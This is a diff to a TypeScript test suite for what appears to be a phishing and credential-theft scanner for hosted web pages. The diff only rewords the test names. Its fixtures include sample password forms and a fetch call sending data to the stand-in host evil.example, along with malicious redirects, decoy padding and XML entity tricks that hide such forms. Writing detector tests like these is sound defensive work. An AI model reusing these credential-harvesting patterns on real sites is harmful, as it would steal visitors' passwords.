@@ -6,7 +6,7 @@ const password = '<input type="password">';
 const form = `<form action="https://evil.example/">${password}</form>`;
 const sends = 'fetch("https://evil.example/")';
 
-describe('what browsers take for a page or a script is read as one, by the type that edges serve', () => {
+describe('pages and scripts are recognised by the type that edges serve', () => {
   test.each(['a.shtml', 'a.htm', 'a.HTML', 'a.xht', 'a.xml', 'a.xsl', 'a.svg', 'a.rss'])('%s', async (path) => {
     expect((await scan({ [path]: form.replace('d">', 'd"/>') })).kinds).toEqual([`${path} password_form`]);
   });
@@ -15,28 +15,28 @@ describe('what browsers take for a page or a script is read as one, by the type 
     expect((await scan({ [path]: `password;${sends}` })).kinds).toEqual([`${path} password_sent`]);
   });
 
-  test('XML as XML: elements that close themselves hide nothing, nor do prefixes, nor scripts of pictures', async () => {
+  test('XML is read as XML: self-closing elements, prefixes and SVG scripts hide nothing', async () => {
     const prefixed = '<h:form action="https://evil.example/"><h:input type="password"/></h:form>';
     const svg = `<svg><foreignObject>${password.replace('>', '/>')}</foreignObject><script href="s.js"/></svg>`;
     const files = { 'a.xhtml': `<script src="x"/>${form}`, 'b.xml': prefixed, 'c.svg': svg, 's.js': sends };
     expect((await scan(files)).kinds).toEqual(['a.xhtml password_form', 'b.xml password_form', 'c.svg password_sent']);
   });
 
-  test('what they take for neither is not', async () => {
+  test('other types are not read', async () => {
     expect((await scan({ 'a.txt': form, 'a.png': form, a: form })).reads).toEqual([]);
   });
 });
 
-describe('a page that was harmless is judged again', () => {
+describe('a harmless page is scanned again', () => {
   const page = `${password}<script src="a.js"></script>`;
   const first = { 'index.html': page, 'a.js': 'a()', 'b.js': sends };
   const flagged = ['index.html password_sent'];
 
-  test('where a script of its version is new', async () => {
+  test('if a script of its version is new', async () => {
     expect((await scan({ ...first, 'a.js': sends }, { before: [first] })).kinds).toEqual(flagged);
   });
 
-  test('where bytes that are known stand under another name', async () => {
+  test('if known bytes get another name', async () => {
     const moved = { 'index.html': page, 'a.js': sends, 'b.js': 'a()' };
     expect((await scan(moved, { before: [first] })).kinds).toEqual(flagged);
     const elsewhere = { ...first, 'in/index.html': page, 'in/a.js': sends };
@@ -44,13 +44,13 @@ describe('a page that was harmless is judged again', () => {
     expect((await scan(elsewhere, { before })).kinds).toEqual(['in/index.html password_sent']);
   });
 
-  test('where page and script are known from two versions, and were never together', async () => {
+  test('if page and script are known, but not together', async () => {
     const before = [first, { 'index.html': '', 'a.js': sends }];
     expect((await scan({ 'index.html': page, 'a.js': sends }, { before })).kinds).toEqual(flagged);
   });
 });
 
-test('a refresh is understood however long its figures are', async () => {
+test('a refresh is recognised with any number of digits', async () => {
   const to = 'https://evil.example/';
   for (const content of [
     `0;url=${to}`,
@@ -63,7 +63,7 @@ test('a refresh is understood however long its figures are', async () => {
     ]);
 });
 
-test('bytes that are missing are unread, and the version is not known to be scanned', async () => {
+test('missing bytes are unread, and the version stays unscanned', async () => {
   const { found, whole } = await scan({ 'a.html': null, 'b.js': null, 'c.html': form });
   expect(found.map(({ path, kind }) => `${path} ${kind}`).sort()).toEqual([
     'a.html unread',
@@ -73,7 +73,7 @@ test('bytes that are missing are unread, and the version is not known to be scan
   expect(whole).toBe(false);
 });
 
-test('a file that takes over a minute is unread, and those after it are read', async () => {
+test('a file that takes over a minute is unread, and the next files are read', async () => {
   let ms = 0;
   // Each slice takes a tenth of a second here.
   const elapsed = () => {
@@ -85,7 +85,7 @@ test('a file that takes over a minute is unread, and those after it are read', a
   expect([kinds, whole]).toEqual([['a.html unread', 'b.html password_form'], false]);
 });
 
-test('what is beyond ten minutes is unread', async () => {
+test('files beyond ten minutes are unread', async () => {
   let ms = 0;
   const elapsed = () => {
     ms += 59_000;
@@ -97,14 +97,14 @@ test('what is beyond ten minutes is unread', async () => {
   expect(reads.length).toBeLessThan(11);
 });
 
-test('a scan beats at each slice of a page and each piece of a script', async () => {
+test('a scan heartbeats at each slice of a page and a script', async () => {
   const text = 'a '.repeat(1_000_000);
   const beats = async (path: string) => (await scan({ [path]: text })).beats;
   expect(await beats('a.html')).toBeGreaterThan(text.length / 20_000);
   expect(await beats('a.js')).toBeGreaterThan(text.length / 65_536);
 });
 
-test('more forms, addresses or scripts than are kept are said to be unread', async () => {
+test('forms, addresses or scripts beyond the limits are reported as unread', async () => {
   const many = (one: string) => one.repeat(300);
   for (const page of [
     many('<form></form>'),
@@ -114,7 +114,7 @@ test('more forms, addresses or scripts than are kept are said to be unread', asy
     expect((await scan({ 'a.html': page })).kinds).toEqual(['a.html unread']);
 });
 
-describe('decoys before the real thing hide it from no scan', () => {
+describe('decoys hide nothing from a scan', () => {
   const own = (n: number) => `https://bakery.example/${n}`;
   const many = (count: number, one: (n: number) => string) =>
     Array.from({ length: count }, (_, n) => one(n)).join('\n');
@@ -154,26 +154,26 @@ describe('decoys before the real thing hide it from no scan', () => {
     expect((await scan({ 'a.html': page })).kinds).toContain(`a.html ${kind}`);
   });
 
-  test('in a script by itself', async () => {
+  test('in a script alone', async () => {
     const script = `password;${many(300, (n) => `fetch("https://bakery.example:${n + 1}")`)};${sends}`;
     expect((await scan({ 'a.js': script })).kinds).toEqual(['a.js unread']);
   });
 
-  test('scripts of frames, of which each names some', async () => {
+  test('scripts of frames are scanned with their pages', async () => {
     const frame = (n: number) =>
       `<iframe srcdoc='${many(40, (m) => `<script src="${n}-${m}.js"></script>`)}'></iframe>`;
     const page = `${password}${frame(0)}${frame(1)}<iframe srcdoc='<script src="s.js"></script>'></iframe>`;
     expect((await scan({ 'a.html': page, 's.js': sends })).kinds).toEqual(['a.html unread']);
   });
 
-  test('what is large and honest is not held to hide something', async () => {
+  test('large honest files are not reported as hiding something', async () => {
     const script = many(400, (n) => `const u${n} = "https://api${n}.example/"; b.onclick = () => { location = u${n} }`);
     const page = `${many(500, (n) => `<h2>Chapter ${n} of the handbook</h2>`)}${many(20, () => '<iframe srcdoc="<p>x"></iframe>')}`;
     expect((await scan({ 'a.html': page, 'b.js': script.slice(0, 8_000) })).kinds).toEqual([]);
   });
 });
 
-describe('XML that browsers make something else of than its text is unread', () => {
+describe('ambiguous XML is unread', () => {
   const entity = `<!ENTITY f "&#60;form action='https://evil.example/'>&#60;input type='password'/>&#60;/form>">`;
   const page = (before: string, body = '&f;') =>
     `${before}<html xmlns="http://www.w3.org/1999/xhtml"><body>${body}</body></html>`;
@@ -198,7 +198,7 @@ describe('XML that browsers make something else of than its text is unread', () 
       expect((await scan({ [path]: text })).kinds).toContain(`${path} unread`);
   });
 
-  test('and pictures, feeds and pages as they mostly are, are read', async () => {
+  test('and usual pictures, feeds and pages are read', async () => {
     const plain = `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg><title>a &amp; b &#169;</title></svg>`;
     const html = `<!DOCTYPE html><pre>&lt;!ENTITY</pre><!ENTITY x "y">&nbsp;`;
     expect((await scan({ 'a.svg': plain, 'a.xml': plain, 'a.html': html })).kinds).toEqual([]);
@@ -213,7 +213,7 @@ function nested(depth: number): string {
   return inner;
 }
 
-describe('rules of a version that lead visitors away', () => {
+describe('redirects that lead visitors away', () => {
   test.each([
     ['/* https://evil.example/:splat 302', true],
     ['/ https://evil.example/', true],
@@ -229,7 +229,7 @@ describe('rules of a version that lead visitors away', () => {
   });
 });
 
-test('two files whose names begin alike, or look alike when printed, have a flag each', async () => {
+test('two files with similar names have a flag each', async () => {
   const long = 'x'.repeat(450);
   const paths = [`${long}1.html`, `${long}2.html`, 'a\u202e.html', 'a\u202d.html', `${'y'.repeat(300)}.html`];
   const { found } = await scan(Object.fromEntries(paths.map((path) => [path, form])));
